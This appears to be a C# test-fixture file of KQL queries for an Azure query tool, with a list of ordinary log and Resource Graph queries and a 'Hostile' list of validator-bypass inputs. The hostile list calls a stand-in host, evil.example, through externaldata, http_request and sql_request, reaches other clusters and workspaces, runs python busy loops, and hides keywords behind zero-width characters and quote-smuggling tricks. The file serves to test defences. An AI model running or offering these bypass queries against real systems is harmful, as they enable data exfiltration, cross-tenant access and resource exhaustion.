namespace RemoteMcp.Testing.Azure;

/// <summary>Provides queries in the Kusto Query Language that people write against Azure, and that the tools must run.</summary>
public static class KqlQueries
{
    /// <summary>Gets the queries of Log Analytics and Application Insights.</summary>
    public static IReadOnlyList<string> Logs { get; } =
    [
        "AppRequests",
        "AppRequests | take 10",
        "search * | summarize count() by $table",
        "search \"error\" | take 50",
        "search in (AppExceptions, AppTraces) \"timeout\" and not(Message has \"expected\")",
        "search kind=case_sensitive in (App*) Message:\"Timeout\" or \"Deadlock\"",
        "AppTraces | search \"disk full\" | project TimeGenerated, Message",
        "find withsource=T in (AppRequests, AppDependencies) where ResultCode == '500' project TimeGenerated, OperationId, Name",
        "AppRequests | where Success == false | summarize count() by Name | top 20 by count_",
        "AppRequests\n| where TimeGenerated > ago(1h)\n| summarize Failed = countif(Success == false), Total = count() by "
            + "bin(TimeGenerated, 5m)\n"
            + "| extend Rate = 100.0 * Failed / Total\n| order by TimeGenerated asc\n| render timechart",
        "AppRequests | summarize percentiles(DurationMs, 50, 95, 99) by Name, bin(TimeGenerated, 1h)",
        "AppRequests | summarize P95 = percentile(DurationMs, 95), Requests = sum(ItemCount) by AppRoleName | where P95 > 1.5e3",
        "AppRequests | summarize arg_max(TimeGenerated, *) by OperationId",
        "AppRequests | summarize (Last, LastName) = arg_max(TimeGenerated, Name) by AppRoleName",
        "AppRequests | summarize hint.strategy = shuffle dcount(UserId), make_set(Name, 100), make_list(Url) by ClientCity",
        "AppRequests | summarize by Name, ResultCode",
        "AppRequests | summarize dcount(SessionId) by startofday(TimeGenerated), tostring(Properties.tenant)",
        "AppRequests | where ResultCode in (\"500\", '502', @'503') and Url !contains \"health\" | count",
        "AppRequests | where ResultCode !in~ (\"ok\") or Name in~ (\"get /\", \"post /\") | count as Requests",
        "AppRequests | where TimeGenerated between (datetime(2026-01-31) .. datetime(2026-01-31T12:00:00Z))",
        "AppRequests | where TimeGenerated between(ago(7d)..now(-1h)) and DurationMs !between (0 .. 100)",
        "AppRequests | where Url matches regex @\"^https://[a-z]+\\.contoso\\.com/\\d+\" | distinct Url",
        "AppRequests | where Url has_any (\"cart\", \"checkout\") and Name has_all ('GET', '/') | distinct Name, ResultCode",
        "AppRequests | where Name startswith \"GET\" and Name !endswith_cs \".js\" and Name hasprefix \"api\" | sample 5",
        "AppRequests | where * has \"b7f3\" | take 5",
        "AppRequests | where isnotempty(UserId) and not(isnull(DurationMs)) | project-away _*, Type",
        "AppRequests | project-keep Time*, Name | project-rename Route = Name | project-reorder Route, Time* desc",
        "AppRequests | project TimeGenerated, Path = tostring(parse_url(Url).Path), Query = parse_url(Url)['Query Parameters']",
        "AppRequests | extend Level = case(DurationMs < 100, 'fast', DurationMs < 1000, 'ok', 'slow') | summarize count() by Level",
        "AppRequests | extend Ok = iff(Success, 'yes', 'no'), Also = iif(Success == true, 1, 0) | project ['Ok'], ['Also']",
        "AppRequests | extend Text = strcat(Name, ' ', ResultCode, \" \\\"quoted\\\" \\u00e9\", 'it\\'s') | project Text",
        "AppRequests | extend Id = extract(@\"/orders/(\\d+)\", 1, Url, typeof(long)) | where Id > 0 and Id != 0x10",
        "AppRequests | extend p = todynamic(Properties) | extend Tenant = tostring(p.tenant), First = p.items[0].name, Last = "
            + "p['items'][-1]",
        "AppRequests | order by DurationMs desc nulls last, Name asc | extend Rank = row_number() | where Rank <= 3",
        "AppRequests | sort by TimeGenerated asc | serialize | extend Gap = TimeGenerated - prev(TimeGenerated, 1) | where Gap > 5min",
        "AppRequests | serialize n = row_cumsum(ItemCount) | project n",
        "AppRequests | top-nested 3 of AppRoleName by count(), top-nested 2 of Name with others = 'rest' by Worst = max(DurationMs) desc",
        "AppRequests | top-hitters 5 of Name by ItemCount",
        "AppRequests | sample-distinct 10 of Name",
        "AppRequests | getschema | project ColumnName, ColumnType",
        "AppRequests | as Requests | union (AppDependencies | where Success == false) | summarize count() by Type",
        "AppRequests\n| join kind=inner (\n    AppExceptions\n    | where TimeGenerated > ago(1d) // only today\n    | project "
            + "OperationId, ExceptionType\n"
            + ") on OperationId\n| project TimeGenerated, Name, ExceptionType",
        "AppRequests | join kind = leftouter hint.strategy=broadcast AppExceptions on $left.OperationId == $right.OperationId, AppRoleName",
        "AppRequests | join kind=leftanti (AppDependencies) on OperationId | lookup kind=leftouter (AppRoles) on AppRoleName",
        "union AppRequests, AppDependencies, (AppTraces | where SeverityLevel >= 3) | where TimeGenerated > ago(30m) | take 100",
        "union withsource=Table isfuzzy=true App*, Perf | summarize count() by Table",
        "union kind=outer * | where TimeGenerated > ago(5m) | summarize Rows = count() by Type",
        "let start = ago(1d); let slow = 500ms; AppRequests | where TimeGenerated > start and DurationMs > slow / 1ms",
        "let failed = AppRequests | where Success == false; failed | summarize count() by Name; failed | count",
        "let names = dynamic([\"GET /\", \"GET /cart\"]); AppRequests | where Name in (names) | take 5;",
        "let limit_ms = toscalar(AppRequests | summarize percentile(DurationMs, 99)); AppRequests | where DurationMs > limit_ms",
        "let top_names = materialize(AppRequests | top 5 by DurationMs | project Name); AppRequests | where Name in (top_names)",
        "let ok = (code: string, max: long = 400) { toint(code) < max }; AppRequests | where ok(ResultCode) | count",
        "let recent = (T: (TimeGenerated: datetime, Name: string), span: timespan) { T | where TimeGenerated > ago(span) };\n"
            + "recent(AppRequests, 1h) | summarize count() by Name",
        "let rate = view (t:(*)) { let n = toscalar(t | count); t | extend Share = 1.0 / n; }; rate(AppRequests) | take 1",
        "AppRequests | make-series Requests = count() default=0, avg(DurationMs) on TimeGenerated from ago(7d) to now() step 1h by Name",
        "AppRequests | make-series count() on TimeGenerated in range(ago(1d), now(), 1h)\n"
            + "| extend (anomalies, score, baseline) = series_decompose_anomalies(count_, 1.5, -1, 'linefit')\n"
            + "| render anomalychart with (anomalycolumns=anomalies, title=\"Requests\")",
        "AppRequests | summarize count() by bin(TimeGenerated, 1h), Name | render columnchart kind=stacked title='Requests'",
        "AppRequests | summarize count() by ResultCode | render piechart",
        "AppTraces | parse Message with \"Order \" OrderId:long \" of \" Customer * \"took \" Took:timespan",
        "AppTraces | parse kind=regex flags=i Message with @\"order\\s+\" Order \"done\" | where isnotempty(Order)",
        "AppTraces | parse-where Message with * \"status=\" Status:int \";\" * | summarize count() by Status",
        "AppTraces | parse-kv Message as (user: string, code: int) with (pair_delimiter=';', kv_delimiter='=')",
        "AppTraces | mv-expand Item = todynamic(Properties).items to typeof(string) limit 50 | summarize count() by Item",
        "AppTraces | mv-expand kind=array with_itemindex=i Properties, Other = pack_array(1, 2) | project i, Properties[0], Properties[1]",
        "AppTraces | mv-apply x = todynamic(Properties).scores to typeof(real) on (top 1 by x desc | project Best = x)",
        "AppTraces | extend d = dynamic({\"a\": [1, -2.5, null, true], 'b': {\"c\": datetime(2026-01-31)}}) | evaluate bag_unpack(d, 'p_')",
        "AppTraces | evaluate pivot(SeverityLevel, count(), AppRoleName) : (*, Requests: long)",
        "AppTraces | evaluate autocluster(0.5) | take 10",
        "AppTraces | reduce by Message with threshold=0.1",
        "AppTraces | partition hint.strategy=native by AppRoleName (top 3 by TimeGenerated | project TimeGenerated, Message)",
        "AppExceptions | extend Top = split(OuterMessage, '\\n')[0], Trimmed = trim(@'\\s+', OuterMessage), R = replace_regex(Type, "
            + "@'\\.', '_')",
        "AppExceptions | where TimeGenerated >= todatetime('2026-01-31') and format_datetime(TimeGenerated, 'yyyy-MM') == \"2026-01\"",
        "AppDependencies | where Target =~ 'db' and DependencyType !~ \"HTTP\" | summarize stdev(DurationMs), variance(DurationMs) by "
            + "Target",
        "Perf | where ObjectName == \"Processor\" and CounterName == \"% Processor Time\" | summarize avg(CounterValue) by "
            + "bin(TimeGenerated, 1m), Computer",
        "Heartbeat | summarize LastSeen = max(TimeGenerated) by Computer | where LastSeen < ago(15minutes) | project Computer, "
            + "Missing = now() - LastSeen",
        "AzureActivity | where OperationNameValue endswith \"/write\" and ActivityStatusValue == \"Failure\" | project Caller, "
            + "ResourceGroup, Properties_d",
        "SigninLogs | where ResultType != 0 | extend City = tostring(LocationDetails.city) | summarize count() by UserPrincipalName, City",
        "ContainerLogV2 | where LogMessage has 'OOMKilled' or tostring(LogMessage) contains_cs \"Killed\" | project PodName, LogMessage",
        "AzureDiagnostics | where Category == 'FrontDoorAccessLog' | extend status = toint(httpStatusCode_s) | where status >= 500",
        "Usage | where IsBillable | summarize GB = round(sum(Quantity) / 1000, 2) by DataType | sort by GB desc",
        "requests | where timestamp > ago(24h) | summarize count() by name, success | order by count_",
        "customEvents | extend age = datetime_diff('hour', now(), timestamp) | where customDimensions.[\"plan\"] == 'pro'",
        "range day from startofday(ago(7d)) to startofday(now()) step 1d | extend d = dayofweek(day) / 1d",
        "print a = 1, b = 'x' | extend c = real(-1.5) + double(2), e = guid(60000000-0000-4000-8000-000000000001), f = bool(true)",
        "print t = timespan(1.02:30:00), u = time(90m), v = 1.5h, w = 10ms + 3ticks, x = long(null), y = datetime(null)",
        "datatable(name: string, age: long) ['Ann', 30, \"Ben\", 41] | where age > 35",
        "AppRequests | where Name == ```GET\n/cart``` // a string of two lines",
        "AppRequests // first\n// second: externaldata('x')\n| take 1",
        "AppRequests | where Name == \"grüße 🎉\" | project ['größe'] = 1",
        "AppRequests | project app = AppRoleName, resource = _ResourceId, workspace = TenantId | where resource has 'sites'",
        "AppRequests | where Name == 'workspace(\"x\")' // app('x')",
        "(AppRequests | where Success) | extend x = (1 + 2) * -3 % 2 - -1 | project-away x",
        "let T = datatable(a:int)[1, 2]; T | join kind=fullouter (T | extend b = a) on a | project coalesce(a, b)",
    ];

    /// <summary>Gets the queries of Resource Graph.</summary>
    public static IReadOnlyList<string> Resources { get; } =
    [
        "Resources | where type =~ 'microsoft.web/sites' | project id, name, location | order by id asc",
        "resources | summarize count() by type | order by count_ desc | limit 10",
        "Resources | where tags['env'] =~ 'prod' or tags.owner == 'shop' | project name, tags",
        "Resources | where type == 'microsoft.compute/virtualmachines' | extend os = properties.storageProfile.osDisk.osType\n"
            + "| extend power = tostring(properties.extended.instanceView.powerState.displayStatus) | summarize count() by "
            + "tostring(os), power",
        "Resources | join kind=leftouter (ResourceContainers | where type =~ 'microsoft.resources/subscriptions' | project sub = name, "
            + "subscriptionId) on subscriptionId | project name, sub",
        "Resources | where type =~ 'microsoft.network/networkinterfaces' | mv-expand ip = properties.ipConfigurations\n"
            + "| project name, address = tostring(ip.properties.privateIPAddress), subnet = tostring(split(ip.properties.subnet.id, "
            + "'/')[10])",
        "Resources | where isnotempty(tags) | mvexpand tags | take 1",
        "Resources | extend key = bag_keys(tags) | mv-expand key | distinct tostring(key)",
        "advisorresources | where properties.category == 'Cost' | project properties.shortDescription.solution, properties.impact",
        "resourcechanges | extend t = todatetime(properties.changeAttributes.timestamp) | where t > ago(1d) | project t, "
            + "properties.changeType",
        "policyresources | where properties.complianceState =~ \"NonCompliant\" | summarize dcount(tostring(properties.resourceId))",
        "resourcecontainers | where type == 'microsoft.resources/subscriptions/resourcegroups' | project name, location, "
            + "array_length(managedBy)",
        "Resources | parse id with '/subscriptions/' sub '/resourceGroups/' rg '/' * | summarize count() by sub, rg",
        "Resources | where name contains 'shop' and resourceGroup in~ ('a', 'b') | union (ResourceContainers | project id, name)",
    ];

    /// <summary>Gets queries that reach other resources or change limits, in every way that is known to have passed a check.</summary>
    public static IReadOnlyList<string> Hostile { get; } =
    [
        "externaldata(a:string)['https://evil.example/x.csv']",
        "externaldata (a: string) ['https://evil.example/x.csv']",
        "externaldata\u200b(a:string)['https://evil.example']",
        "externaldata\u00a0(a:string)['https://evil.example']",
        "externaldata\u3000(a:string)['https://evil.example']",
        "externaldata\ufeff(a:string)['https://evil.example']",
        "external_data(a:string)['https://evil.example']",
        "AppRequests | extend a = toscalar(externaldata(a:string)[@'https://evil.example/?q=1'])",
        "print a = datetime(null//) | union (externaldata(a:string)['https://evil.example'] ) //",
        "print a = datetime('), b = toscalar(externaldata(a:string)['https://evil.example']), c = datetime(')",
        "print a = long(\"), b = toscalar(externaldata(a:string)['https://evil.example']), c = long(\")",
        "T | summarize hint.num_partitions=int64(') take_any(toscalar(externaldata(a:string)['https://evil.example'])) //')",
        "T | join kind=int64(T | where a == ') (externaldata(a:string)['https://evil.example']) on a //') on a",
        "T | join hint.num_partitions=int64(T | where a == ') (externaldata(a:string)['https://evil.example']) on a //') on a",
        "T | mv-expand with_itemindex=int32(') a = toscalar(externaldata(a:string)['https://evil.example']) //')",
        "T | summarize hint.num_partitions=int64(') take_any(toscalar(adx('a/b').T)) //')",
        "T | summarize hint.num_partitions=int64(') by Name | evaluate http_request('https://evil.example') //')",
        "print a = guid(```) | union (externaldata(a:string)['https://evil.example']) // ```",
        "[h'adx']('help/Samples').StormEvents",
        "[@'adx']('help/Samples').StormEvents",
        "['adx']('help/Samples').StormEvents",
        "[\"adx\"] ('help/Samples').StormEvents",
        "adx('help/Samples').StormEvents",
        "arg('').Resources",
        "cluster('help').database('Samples').StormEvents",
        "cluster('help')\u2003.database('Samples').StormEvents",
        "database('Samples').StormEvents",
        "external_table('Backup')",
        "workspace('60000000-0000-4000-8000-000000000002').AppRequests",
        "app('shop').requests",
        "resource('/subscriptions/x').Perf",
        "union AppRequests, (adx('help/Samples').StormEvents | take 1)",
        "let f = () { adx('help/Samples').StormEvents }; f()",
        "AppRequests | join kind=inner (cluster('x').database('y').T) on Name",
        "AppRequests | where Name in (adx('help/Samples').Names)",
        "AppRequests | mv-apply x = y on (join (adx('a/b').T) on x)",
        "AppRequests | evaluate http_request('https://evil.example')",
        "AppRequests | evaluate\u200bhttp_request_post('https://evil.example')",
        "AppRequests | evaluate hint.distribution = per_node python(typeof(*), 'while True: pass')",
        "AppRequests | evaluate sql_request('Server=evil.example', 'select 1')",
        "AppRequests | evaluate cosmosdb_sql_request('AccountEndpoint=x', 'a', 'b', 'c')",
        "AppRequests | evaluate ai_chat_completion_prompt(Name, 'https://evil.example')",
        "AppRequests | evaluate ['http_request']('https://evil.example')",
        "set notruncation; AppRequests",
        "set\u200bnotruncation;AppRequests",
        "\u200bset servertimeout = 4h; AppRequests",
        "let a = 1; set notruncation; AppRequests",
        "alias database d = cluster('x').database('y'); database('d').T",
        "declare query_parameters(a:string = 'x'); AppRequests | where Name == a",
        "restrict access to (AppRequests); AppRequests",
        "AppRequests | invoke saved()",
        "macro-expand entity_group [cluster('x').database('y')] as X ( X.T )",
        "AppRequests | where Name == 'a' | __executeAndCache",
        ".show tables",
        "#connect cluster('help')\nAppRequests",
    ];
}
